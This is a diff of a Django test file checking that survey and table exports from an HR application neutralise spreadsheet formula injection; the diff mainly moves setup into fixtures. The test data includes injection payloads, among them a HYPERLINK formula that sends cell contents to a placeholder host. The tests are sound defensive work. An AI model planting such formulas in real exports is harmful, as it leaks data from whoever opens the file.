@@ -10,7 +10,6 @@ unless it is a number, and no XLSX sheet holds a formula element.
 from __future__ import annotations
 
 import csv
-import datetime as dt
 import io
 import re
 import zipfile
@@ -30,7 +29,7 @@ from naervaer.org.models import Employee, Employment, Unit
 from naervaer.prevention import survey_services
 from naervaer.spreadsheet_text import inert, restore
 from tests.insight.conftest import demo, login  # noqa: F401 (fixtures)
-from tests.prevention.conftest import TODAY, answer_all, build_world, profile_instrument
+from tests.prevention.conftest import answer_all, open_round, world  # noqa: F401 (fixtures)
 
 LINK = '=HYPERLINK("http://x"&A1,"klikk")'
 PAYLOADS = [LINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
@@ -212,20 +211,9 @@ def test_demo_tables_and_stats_output_are_inert(tmp_path, capsys):
     assert "'-2+3" in cells and "''-2+3" not in cells
 
 
-@pytest.mark.django_db
-def test_survey_results_and_process_table_are_inert(client, tmp_path):
-    world = build_world()
+def test_survey_results_and_process_table_are_inert(client, tmp_path, open_round, world):  # noqa: F811
     Unit.objects.filter(pk=world["units"]["health"].pk).update(name=LINK)
-    survey = survey_services.round_create(
-        actor=world["users"]["hr"],
-        instrument=profile_instrument(),
-        root_unit=world["units"]["root"],
-        title="@Arbeidsmiljø",
-        opens_on=TODAY,
-        closes_on=TODAY + dt.timedelta(days=14),
-        bands=[{"key": "age", "label_nb": "Alder", "label_en": "Age", "options": ["<40", "40+"]}],
-    )
-    survey_services.round_open(survey=survey, today=TODAY)
+    survey = open_round
     answer_all(survey)
     survey_services.round_close(survey=survey)
     client.force_login(world["users"]["hr"])
